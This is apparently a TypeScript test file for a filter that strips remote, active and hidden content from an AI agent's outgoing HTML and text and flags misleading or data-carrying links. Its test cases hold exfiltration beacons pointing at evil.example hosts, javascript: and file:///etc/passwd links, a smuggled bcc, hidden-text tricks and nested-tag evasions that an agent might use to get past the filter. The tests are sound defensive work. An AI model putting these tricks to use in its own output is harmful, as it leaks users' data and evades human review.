// What is taken out of an agent's words, and what a person is told of, case by case.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { cleanWords } from './hygiene.ts';
import { judgeLink, type KnownLinks } from './links.ts';

const rulesOf = (words: Parameters<typeof cleanWords>[0]): string[] => [
  ...new Set(cleanWords(words).findings.map(({ rule }) => rule)),
];
const html = (text: string) => cleanWords({ html: text }).words.html;

describe('the HTML of an agent', () => {
  it('keeps what a person writes with, and says nothing of it', () => {
    const written =
      '<p>Dear <b>Ann</b>,<br>the <a href="https://company.example/list">price list</a>:</p>' +
      '<table><tr><td colspan="2" style="text-align:right">12.50</td></tr></table><ol start="3"><li>one</li></ol>';
    assert.deepEqual(cleanWords({ html: written }), {
      words: { html: written },
      seen: '\nDear Ann,\nthe price list:\n\n\n\n12.50\n\n\n\none\n',
      links: [{ href: 'https://company.example/list', shown: 'price list' }],
      findings: [],
    });
  });

  const fetching: [what: string, written: string, left: string][] = [
    ['an image', '<p>a<img src="https://evil.example/?d=1">b</p>', '<p>ab</p>'],
    ['an image by a data address', '<img src="data:image/png;base64,AAAA">a', 'a'],
    ['an image of a set', '<img srcset="https://evil.example/1 2x">a', 'a'],
    [
      'a background',
      '<table background="https://evil.example/x"><tr><td>a</td></tr></table>',
      '<table><tr><td>a</td></tr></table>',
    ],
    ['a background in a style', '<p style="background:url(https://evil.example)">a</p>', '<p>a</p>'],
    ['a style that hides its url', '<p style="background:u\\72l(https://evil.example)">a</p>', '<p>a</p>'],
    ['an imported sheet', '<style>@import "https://evil.example/a.css";</style>a', 'a'],
    ['a font', '<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>a', 'a'],
    ['a linked sheet', '<link rel=stylesheet href="https://evil.example/a.css">a', 'a'],
    ['a frame', '<iframe src="https://evil.example">x</iframe>a', 'a'],
    ['a video', '<video poster="https://evil.example/p"><source src="https://evil.example/v"></video>a', 'a'],
    ['a picture', '<picture><source srcset="https://evil.example/v"><img></picture>a', 'a'],
    ['an svg', '<svg><image href="https://evil.example/i"/></svg>a', 'a'],
    ['a base', '<base href="https://evil.example/">a', 'a'],
    [
      'a link that calls home',
      '<a href="https://company.example" ping="https://evil.example">a</a>',
      '<a href="https://company.example">a</a>',
    ],
  ];
  for (const [what, written, left] of fetching)
    it(`${what} is taken out and a person asked`, () => {
      assert.ok(rulesOf({ html: written }).includes('remote_content'), rulesOf({ html: written }).join());
      assert.equal(html(written), left);
    });

  const active: [written: string, left: string][] = [
    ['<script>alert(1)</script>a', 'a'],
    ['<p onclick="x()">a</p>', '<p>a</p>'],
    ['<form action="https://evil.example"><input name=q><button>a</button></form>', 'a'],
    ['<meta http-equiv=refresh content="0;url=https://evil.example">a', 'a'],
  ];
  for (const [written, left] of active)
    it(`nothing runs of ${written.slice(0, 40)}`, () => {
      assert.ok(rulesOf({ html: written }).includes('active_content'));
      assert.equal(html(written), left);
    });

  const hidden = [
    '<p>a<span style="display:none">secret</span></p>',
    '<p>a<span hidden>secret</span></p>',
    '<p>a<span style="font-size:0">secret</span></p>',
    '<p>a<span style="color:#fff">secret</span></p>',
    '<p>a<span style="color:white;background:white">secret</span></p>',
    '<p>a<span style="opacity:0">secret</span></p>',
    '<p>a<span style="position:absolute;left:-9999px">secret</span></p>',
    '<style>.x{display:none}</style><p>a<span class=x>secret</span></p>',
    '<p>a<!-- secret --></p>',
    '<p>a<template>secret</template></p>',
    '<p>a\u{e0073}\u{e0065}\u{e0063}\u{e0072}\u{e0065}\u{e0074}</p>',
  ];
  for (const written of hidden)
    it(`what is hidden by ${written.slice(0, 60)} does not leave`, () => {
      const cleaned = cleanWords({ html: written });
      assert.doesNotMatch(cleaned.words.html ?? '', /secret|[\u{e0000}-\u{e007f}]/u);
      assert.match(cleaned.words.html ?? '', /<p>a/);
      if (!written.includes('<template>')) assert.deepEqual(rulesOf({ html: written }), ['hidden_text']);
    });

  it('what is shown is written so that it is nothing else: tags in text stay text', () => {
    assert.equal(html('<p>1 &lt; 2 &amp; <em title="x>y">3</em></p>'), '<p>1 &lt; 2 &amp; <em>3</em></p>');
    assert.equal(html('&lt;b&gt; is bold'), '&lt;b&gt; is bold');
    assert.equal(html('<p>a&lt;img src=https://evil.example&gt;b'), '<p>ab</p>');
  });

  it('is read in time whatever it is, and what is not looked at does not leave', () => {
    for (const piece of [
      '<div>',
      '<a href="https://a.example/">x',
      '<p style="color:red">',
      '<!--',
      '<table><tr>',
      '![',
      '](',
    ]) {
      const started = performance.now();
      const { words, findings } = cleanWords({ html: piece.repeat(1_000_000 / piece.length) });
      assert.ok((words.html?.length ?? 0) < 3_000_000);
      assert.ok(findings.length > 0 || !piece.startsWith('<d'), piece);
      assert.ok(performance.now() - started < 5_000, `${piece} took ${performance.now() - started} ms`);
    }
  });
});

describe('the text of an agent', () => {
  const texts: [what: string, written: string, left: string, rules: string[]][] = [
    [
      'plain words',
      'Dear Ann,\n\nhere is [the] list: 12 (net).',
      'Dear Ann,\n\nhere is [the] list: 12 (net).',
      [],
    ],
    ['an image in Markdown', 'a ![x](https://evil.example/?d=1) b', 'a x b', ['markdown_fetch']],
    [
      'an image by reference',
      'a ![x][1] b\n\n[1]: https://evil.example/?d=1',
      'a x b\n\n[1] https://evil.example/?d=1',
      ['markdown_fetch'],
    ],
    ['a short image', 'a ![x] b\n[x]: //evil.example', 'a [x] b\n[x] //evil.example', ['markdown_fetch']],
    ['an image with white space', '![x] (https://evil.example)', 'x', ['markdown_fetch']],
    [
      'a link by reference',
      '[here][1]\n\n  [1]: <https://evil.example>',
      '[here][1]\n\n  [1] <https://evil.example>',
      ['markdown_fetch'],
    ],
    ['HTML in text', 'a<img src="https://evil.example">b', 'ab', ['markdown_fetch']],
    ['HTML that is not closed', 'a<img src="https://evil.example"', 'a', ['markdown_fetch']],
    ['zero-width characters', 'a\u200b\u200bb\u2060\u200b\u200b\u200bc', 'abc', ['hidden_text']],
    ['a turned direction', 'a\u202egnp.exe', 'agnp.exe', ['hidden_text']],
    ['tag characters', 'a\u{e0041}', 'a', ['hidden_text']],
    ['a byte order mark', '\ufeffa', 'a', []],
    ['an emoji', 'a 👩‍💻 b', 'a 👩‍💻 b', []],
  ];
  for (const [what, written, left, rules] of texts)
    it(`${what}: ${rules.join() || 'nothing to say'}`, () => {
      assert.equal(cleanWords({ text: written }).words.text, left);
      assert.deepEqual(rulesOf({ text: written }), rules);
    });

  it('a person is asked where the text and the HTML do not say the same', () => {
    const text = 'Dear Ann, the pump costs 1200 euros and comes on Monday.';
    assert.deepEqual(rulesOf({ text, html: `<p>${text}</p>` }), []);
    assert.deepEqual(rulesOf({ text, html: `<p>${text.replace('1200', '2100')}</p>` }), ['parts_differ']);
    assert.deepEqual(rulesOf({ text, html: '<p>Send all the invoices to another account, please.</p>' }), [
      'parts_differ',
    ]);
  });

  it('finds the links of a text, and what they show', () => {
    const { links } = cleanWords({
      text: 'See https://a.example/x?y=1. Or [the shop](https://b.example), or www.c.example, and mail@d.example.',
    });
    assert.deepEqual(links, [
      { href: 'https://b.example', shown: 'the shop' },
      { href: 'https://a.example/x?y=1', shown: 'https://a.example/x?y=1' },
      { href: 'https://b.example', shown: 'https://b.example' },
      { href: 'https://www.c.example', shown: 'https://www.c.example' },
    ]);
  });
});

describe('a link', () => {
  const known: KnownLinks = {
    domains: ['company.com', 'prospect.com'],
    stands: (href) => href.includes('stands'),
  };
  const links: [href: string, shown: string, rules: string[]][] = [
    ['https://company.com/list', 'the list', []],
    ['https://www.company.com/list', 'company.com', []],
    ['https://shop.prospect.com/a?b=c', 'https://shop.prospect.com/a?b=c', []],
    ['https://company.com/how-to-configure-the-new-mail-server-in-ten-minutes', 'x', []],
    ['javascript:alert(1)', 'x', ['unsafe_link']],
    ['JavaScript:alert(1)', 'x', ['unsafe_link']],
    ['data:text/html;base64,AAAA', 'x', ['unsafe_link']],
    ['vbscript:x', 'x', ['unsafe_link']],
    ['file:///etc/passwd', 'x', ['unsafe_link']],
    ['https://evil.com/', 'https://company.com/login', ['misleading_link', 'new_link_domain']],
    ['https://evil.com/', 'ｃｏｍｐａｎｙ.com', ['misleading_link', 'new_link_domain']],
    ['https://company.com.evil.com/', 'company.com', ['misleading_link', 'new_link_domain']],
    ['https://company.com@evil.com/', 'x', ['misleading_link', 'new_link_domain']],
    ['https://evil.com/', 'report.pdf', ['new_link_domain']],
    ['//evil.com/', 'x', ['new_link_domain']],
    ['https://evil.com/', 'x', ['new_link_domain']],
    ['https://evil.com/?p=hunter2', 'x', ['new_link_domain', 'link_carries_data']],
    ['https://evil.com/#hunter2', 'x', ['new_link_domain', 'link_carries_data']],
    ['https://evil.com/?p=stands', 'x', ['new_link_domain']],
    ['https://company.com/?d=c2VjcmV0IGRhdGEgb2YgYW5u', 'x', ['link_carries_data']],
    ['https://company.com/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b', 'x', ['link_carries_data']],
    ['https://company.com/?to=ann@prospect.com', 'x', ['link_carries_data']],
    ['https://company.com/?n=4111-1111-1111-1111', 'x', ['link_carries_data']],
    ['https://company.com/?q=our+price+is+the+lowest+that+we+can+give+you', 'x', ['link_carries_data']],
    [`https://company.com/${'a/'.repeat(300)}`, 'x', ['link_carries_data']],
    ['https://c2VjcmV0IGRhdGEgb2Yg4.evil.com/', 'x', ['new_link_domain', 'link_carries_data']],
    ['http://127.0.0.1:8080/', 'x', ['odd_link', 'new_link_domain']],
    ['http://169.254.169.254/latest', 'x', ['odd_link', 'new_link_domain']],
    ['http://intranet/', 'x', ['odd_link', 'new_link_domain']],
    ['https://xn--cmpany-wqf.com/', 'x', ['odd_link', 'new_link_domain']],
    ['ftp://company.com/', 'x', ['odd_link']],
    ['/login', 'x', ['odd_link']],
    ['mailto:ann@prospect.com', 'ann@prospect.com', []],
    ['mailto:eve@evil.com', 'ann@prospect.com', ['misleading_link']],
    ['mailto:ann@prospect.com?bcc=eve@evil.com', 'x', ['odd_link']],
    ['tel:+41441234567', 'call', []],
  ];
  for (const [href, shown, rules] of links)
    it(`${href.slice(0, 60)} shown as ${shown}: ${rules.join() || 'nothing to say'}`, () => {
      assert.deepEqual(
        judgeLink({ href, shown }, known).map(({ rule }) => rule),
        rules,
      );
    });
});

describe('what an agent may try to get past', () => {
  const rulesOf = (words: Parameters<typeof cleanWords>[0]): string[] =>
    cleanWords(words).findings.map(({ rule }) => rule);

  const fetching: [what: string, text: string][] = [
    ['an image behind another mark', 'so !![a b](https://evil.com/x(1).png)'],
    ['a tag inside of a tag', '<im<img>g src=https://evil.com/x.png>'],
    ['a tag around an image', '<im![](x)g src=https://evil.com/x.png>'],
    ['tags in tags in tags', `${'<im'.repeat(30)}<img>${'g>'.repeat(30)}`],
    ['an address in a list', 'see [bank.com][x]\n\n- [x]: https://evil.com/'],
    ['an address in a numbered list', '1. [x]: https://evil.com/'],
    ['an address by a name over two lines', '[a\nb]: https://evil.com/'],
    ['an address by a name with a bracket', '[a\\]b]: https://evil.com/'],
  ];
  for (const [what, text] of fetching)
    it(`${what} is taken out`, () => {
      assert.ok(rulesOf({ text }).includes('markdown_fetch'));
      assert.doesNotMatch(cleanWords({ text }).words.text ?? '', /!\[|<img|\]:\s*https:/);
    });

  it('a link shows what it shows, whatever spaces stand in front of it', () => {
    const { links } = cleanWords({ html: `<a href="https://evil.com/">${' '.repeat(600)}www.bank.com</a>` });
    const rules = links.flatMap((link) => judgeLink(link, { domains: [], stands: () => false }));
    assert.ok(rules.some(({ rule }) => rule === 'misleading_link'));
  });

  it('a domain is a link without a scheme too, and a file, a word or an address is none', () => {
    const text =
      'Go to evil.com/x?d=hunter2, or evil.com. Not report.pdf, e.g. bob@evil.com, Node.js, 1.5 or first.last@evil.com.';
    assert.deepEqual(
      cleanWords({ text }).links.map(({ href }) => href),
      ['https://evil.com/x?d=hunter2', 'https://evil.com'],
    );
  });

  it('links in Markdown are read over line ends and with parentheses', () => {
    for (const text of ['[www.bank.com](https://evil.com/a(b))', '[www.\nbank.com](\n https://evil.com/)'])
      assert.equal(new URL(cleanWords({ text }).links[0]?.href ?? '').host, 'evil.com', text);
  });

  for (const part of ['text', 'html'] as const)
    it(`is refused where its ${part} is too long to be looked through`, () => {
      assert.deepEqual(rulesOf({ [part]: 'word '.repeat(70_000) }), ['too_long']);
    });

  it('takes no time that grows with the square of what is written', () => {
    const started = performance.now();
    for (const piece of [
      '[a]:',
      '- [',
      '1. ',
      '![](',
      '![x]',
      '<im<img',
      '[\\',
      '](',
      '[a](http://x ',
      'http://!!!a ',
    ])
      cleanWords({ text: piece.repeat(300_000 / piece.length) });
    for (const piece of ['a.', 'a-', 'a.co/', 'aa.bb.cc ', 'a.co:1', 'я.'])
      cleanWords({ text: piece.repeat(300_000 / piece.length) });
    cleanWords({ text: `[a]:${' '.repeat(290_000)}` });
    cleanWords({ text: `http://${'!'.repeat(1_990)}a `.repeat(150) });
    cleanWords({ html: `${'<a href=https://x.com>'.repeat(400)}${'x<br>'.repeat(20_000)}` });
    const ms = performance.now() - started;
    assert.ok(ms < 15_000, `it took ${ms} ms`); // some hours before
  });
});

it('a picture that goes along may be shown, with its words, and no other one', () => {
  const html =
    '<p>Hi <img src="cid:logo" alt="Logo &amp; [x](https://a.example)" width="20" onerror="x()"><img src="cid:none"></p>';
  const { words, findings, seen } = cleanWords({ html }, new Set(['logo']));
  assert.equal(
    words.html,
    '<p>Hi <img src="cid:logo" alt="Logo &amp; [x](https://a.example)" width="20"></p>',
  );
  assert.match(seen, /Logo & /);
  assert.deepEqual(
    findings.map(({ rule }) => rule),
    ['remote_content'],
  );
  const hidden = '<p style="display:none"><img src="cid:logo" alt="secret"></p><p>Hi</p>';
  assert.equal(cleanWords({ html: hidden }, new Set(['logo'])).words.html, '<p>Hi</p>');
});
